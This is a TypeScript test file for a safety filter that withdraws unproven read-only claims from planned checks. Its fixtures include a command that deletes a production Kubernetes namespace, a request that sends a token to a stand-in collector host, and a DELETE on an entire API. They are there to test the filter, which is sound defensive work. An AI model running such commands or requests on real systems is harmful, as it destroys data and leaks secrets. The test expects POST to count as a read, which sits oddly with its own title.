// A plan may claim anything; what runs unreviewed rests on the proof alone.
import assert from 'node:assert/strict'
import test from 'node:test'
import { aGate, aPlan } from '../../test/decisions.ts'
import type { Check } from '../verdict/index.ts'
import { withdrawUnprovenClaims } from './proven-claims.ts'

function claimAfter(check: Check, claim: boolean): boolean | undefined {
  return withdrawUnprovenClaims(aPlan([aGate({ id: 'claim', check, provenRead: claim })])).gates[0]
    ?.provenRead
}

test('a claim of reading is withdrawn from a script or a request that is not proven to read', () => {
  const table: readonly (readonly [Check, boolean])[] = [
    [{ type: 'command', language: 'bash', script: 'test -s notes.md' }, true],
    [{ type: 'command', language: 'sh', script: 'test -s notes.md' }, true],
    [{ type: 'command', language: 'bash', script: 'touch planted && test -f planted' }, false],
    [{ type: 'command', language: 'bash', script: 'kubectl delete ns production' }, false],
    [{ type: 'command', language: 'bash', script: 'if' }, false],
    [{ type: 'http', method: 'GET', url: '$BASE/health' }, true],
    [{ type: 'http', method: 'GET', url: 'https://collector.example/?t=$TOKEN' }, false],
    [{ type: 'http', method: 'DELETE', url: '$BASE/everything' }, false],
    [{ type: 'sql', connection: 'DB', text: 'select 1' }, true],
  ]
  for (const [check, kept] of table) {
    assert.deepEqual([check, claimAfter(check, true)], [check, kept])
    assert.equal(claimAfter(check, false), false, 'a claim is never added')
  }
})

test('a request whose method changes something asks before it runs, whatever the plan calls it', () => {
  const effectOf = (method: string): string | undefined => {
    const check: Check = { type: 'http', method, url: 'https://pier.example/berths' }
    const gate = aGate({ id: 'claim', check, effect: 'read', provenRead: true })
    return withdrawUnprovenClaims(aPlan([gate])).gates[0]?.effect
  }
  const methods = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'delete']
  assert.deepEqual(methods.map(effectOf), [
    'read',
    'read',
    'read',
    'unknown',
    'unknown',
    'unknown',
    'unknown',
  ])
})
